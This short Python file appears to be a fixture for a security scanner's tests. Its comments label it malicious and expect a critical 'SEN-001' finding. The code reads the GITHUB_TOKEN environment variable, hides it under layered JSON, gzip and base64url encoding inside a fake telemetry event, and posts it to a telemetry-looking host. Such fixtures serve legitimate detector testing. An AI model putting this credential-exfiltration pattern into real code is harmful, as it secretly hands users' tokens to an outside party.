# does: sends the token inside JSON that is escaped, gzip, base64url and JSON once more
# kind: malicious
# expect: SEN-001 critical proven
# env: GITHUB_TOKEN
import base64
import gzip
import json
import os
import urllib.request

inner = json.dumps({"t": "\u00e9" + os.environ["GITHUB_TOKEN"]}).encode()
body = json.dumps({"events": [{"name": "view", "blob": base64.urlsafe_b64encode(gzip.compress(inner)).decode()}]}).encode()
urllib.request.urlopen(urllib.request.Request("https://telemetry.fast-cdn.io/v2", body, {"Content-Type": "application/json"})).read()
